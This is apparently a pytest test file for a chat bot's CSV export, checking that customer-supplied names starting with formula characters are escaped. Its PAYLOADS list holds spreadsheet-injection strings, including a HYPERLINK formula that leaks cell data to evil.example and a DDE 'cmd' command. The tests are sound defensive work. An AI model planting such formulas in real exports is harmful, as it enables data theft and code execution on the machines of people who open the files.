"""Issue 23, finding 4: one cell-escaping function for every CSV, and the payloads that got through."""

from __future__ import annotations

import csv
import io
from collections.abc import Callable

import pytest
from starlette.testclient import TestClient

from bot.app import create_app
from bot.settings import Settings
from bot.web.csv_cells import csv_cell, csv_text
from tests.bot.web.api.conftest import ADMIN_TOKEN, bearer
from tests.conftest import Db, inbound_form, settle, signed_post

# What a customer can make their WhatsApp ProfileName; each passed the API's old check.
PAYLOADS = (
    '=1+HYPERLINK("http://evil.example/?"&A1,"Ver")',
    "-1+cmd|' /C calc'!A0",
    "@1+SUM(1)",
    "+1+1",
    "=SUM(1)",
    "\t=1",
    "\r=1",
)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_every_formula_start_is_made_text(payload: str) -> None:
    assert csv_cell(payload) == "'" + payload


@pytest.mark.parametrize("harmless", ["+573001112233", "-12", "12.5", "Valentina", "", "+5"])
def test_phone_numbers_plain_numbers_and_text_are_left_alone(harmless: str) -> None:
    assert csv_cell(harmless) == harmless


def test_non_text_values_keep_their_type() -> None:
    assert csv_cell(None) == "" and csv_cell(3) == 3 and csv_cell(True) is True
    rows = list(csv.reader(io.StringIO(csv_text([["a", "=1"], [None, -2]]))))
    assert rows == [["a", "'=1"], ["", "-2"]]


def test_the_api_customer_csv_escapes_what_customers_named_themselves(
    make_settings: Callable[..., Settings], db: Db
) -> None:
    db.add_advisor("Ana", "+14155238886")
    with TestClient(create_app(make_settings(admin_token=ADMIN_TOKEN))) as client:
        for n, payload in enumerate(PAYLOADS):
            form = inbound_form("+14155238886", f"+5730011100{n:02d}", "hola", ProfileName=payload)
            assert signed_post(client, form).status_code == 200
        settle(db)
        answer = client.get("/api/customers?format=csv&limit=100", headers=bearer(ADMIN_TOKEN))
    assert answer.status_code == 200
    names = {row["name"] for row in csv.DictReader(io.StringIO(answer.text))}
    assert names == {"'" + payload.strip() for payload in PAYLOADS}  # names are stored stripped
